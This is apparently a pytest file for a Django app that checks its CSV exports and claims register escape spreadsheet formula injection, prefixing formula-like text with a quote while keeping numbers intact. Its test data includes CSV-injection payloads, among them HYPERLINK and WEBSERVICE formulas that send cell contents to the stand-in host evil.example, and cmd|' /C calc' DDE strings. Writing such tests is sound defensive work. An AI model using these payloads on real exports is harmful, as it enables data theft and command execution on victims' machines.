"""Every CSV the product writes (the exports' CSV with HXL, ACLED's CSV, the claims register)
opens in a spreadsheet as data: a text cell that would be read as a formula gets a single
quote before it (OWASP's rule for CSV injection), and numbers stay numbers."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from truceline.exchange.exports import cell, csv_lines
from truceline.incidents.models import Incident
from truceline.osint.models import Article, Claim
from truceline.osint.scoring import read_article
from truceline.osint.services import Incoming, ingest
from truceline.scenario.models import Category, Organisation
from truceline.testing.incidents import make_incident

pytestmark = pytest.mark.django_db

NEWS = Path(__file__).resolve().parents[3].parent / "shared" / "data" / "news"

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Open")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "-",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\tplain after a tab",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "   @SUM(A1:A9)",
    "\u00a0=1+1",  # no-break space
    "\u3000=1+1",  # ideographic space
    "\uff1d1+1",  # full-width equals sign
    "-3.5 -3.5",
    " -3.5",
]
PLAIN = ["Mortar fire near Torkham", "", "a=b", "3-2", "e-mail", "#event+id", "'quoted", "Kabul"]
NUMBERS = [-3.5, 3.5, 0, -12, 71.0, 34.01, -0.0, 1e-07, "-3.5", "+4", "-12", ".5", "-1e5"]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_like_text_is_quoted(text: str) -> None:
    assert cell(text) == "'" + text


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_is_left_alone(text: str) -> None:
    assert cell(text) == text


@pytest.mark.parametrize("number", NUMBERS)
def test_numbers_stay_numbers(number: object) -> None:
    assert cell(number) == number
    (written,) = list(csv.reader(io.StringIO("".join(csv_lines(["x"], [[number]], None)))))[1:]
    assert written == [str(number)]  # no quote before it: the spreadsheet reads a number


def test_none_is_an_empty_cell() -> None:
    assert cell(None) == ""


def rows_of(text: str, skip: int = 1) -> list[dict[str, str]]:
    lines = text.split("\n")
    return list(csv.DictReader(io.StringIO("\n".join([lines[0], *lines[1 + skip :]]))))


def download(api, fmt: str) -> str:  # type: ignore[no-untyped-def]
    token = api.token("qa-monitor")
    got = api.client.get(f"/api/v1/exports/incidents.{fmt}", HTTP_AUTHORIZATION=f"Bearer {token}")
    assert got.status_code == 200
    return b"".join(got.streaming_content).decode()


def test_the_exports_quote_formulas_and_keep_negative_longitudes(people, api) -> None:  # type: ignore[no-untyped-def]
    """Text that reaches the exports from the scenario and the derived geography (a place's
    name, a party's, a category's) is written as text; a longitude of -3.5 as a number."""
    incident = make_incident(people, "under-verification")
    Incident.objects.filter(pk=incident.pk).update(
        lon=-3.5, lat=-12.25, nearest_place='=HYPERLINK("http://evil.example")', district="@x"
    )
    Organisation.objects.filter(slug=incident.accused_party_id).update(name="+cmd|' /C calc'!A0")
    Category.objects.filter(slug=incident.category_id).update(name="-2+3")

    (row,) = [r for r in rows_of(download(api, "csv")) if r["id"] == incident.pk]
    assert row["lon"] == "-3.5" and row["lat"] == "-12.25"
    assert row["nearest_place"] == '\'=HYPERLINK("http://evil.example")'
    assert row["district"] == "'@x"
    assert row["killed"] == str(incident.killed if incident.killed is not None else "")

    (acled,) = [
        r for r in rows_of(download(api, "acled"), skip=0) if r["event_id_cnty"] == incident.pk
    ]
    assert acled["longitude"] == "-3.5" and acled["latitude"] == "-12.25"
    assert acled["actor1"] == "'+cmd|' /C calc'!A0 (alleged)"
    assert acled["location"] == '\'=HYPERLINK("http://evil.example")'
    assert acled["notes"].startswith("'-2+3; mechanism state:")
    assert acled["timestamp"].isdigit() and acled["year"].isdigit()


def test_the_claims_register_quotes_formulas(people, client) -> None:  # type: ignore[no-untyped-def]
    """The claims register's text comes from the press: a title or a quote that starts with a
    formula is text in the download."""
    from truceline.accounts.testing import force_sign_in

    a = read_article(NEWS / "dev-038.txt")
    ingest(actor=people["qa-monitor"], items=[Incoming(a.title, a.text, a.published, a.url, "t")])
    assert Claim.objects.exists()
    Article.objects.update(title='=WEBSERVICE("http://evil.example/"&A1)')
    first = Claim.objects.order_by("id").first()
    assert first is not None
    Claim.objects.filter(pk=first.pk).update(quote="@SUM(1+1)*cmd|' /C calc'!A0")
    force_sign_in(client, people["qa-monitor"])
    got = client.get("/monitoring/claims/?format=csv")
    rows = list(csv.DictReader(io.StringIO(b"".join(got.streaming_content).decode())))
    assert rows and {r["title"] for r in rows} == {'\'=WEBSERVICE("http://evil.example/"&A1)'}
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in {r["quote"] for r in rows}
    assert all(not r["quote"].startswith(("=", "+", "-", "@")) for r in rows)
